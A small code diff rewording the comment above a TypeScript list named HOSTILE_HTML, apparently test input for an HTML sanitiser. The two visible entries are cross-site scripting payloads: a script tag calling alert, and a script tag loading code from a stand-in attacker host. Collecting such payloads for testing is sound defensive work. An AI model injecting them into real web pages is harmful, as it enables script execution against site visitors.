@@ -1,4 +1,4 @@
-/** What those send who want a page to run, load or draw something of theirs. */
+/** What attackers send to make a page run, load or draw something of theirs. */
 export const HOSTILE_HTML: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
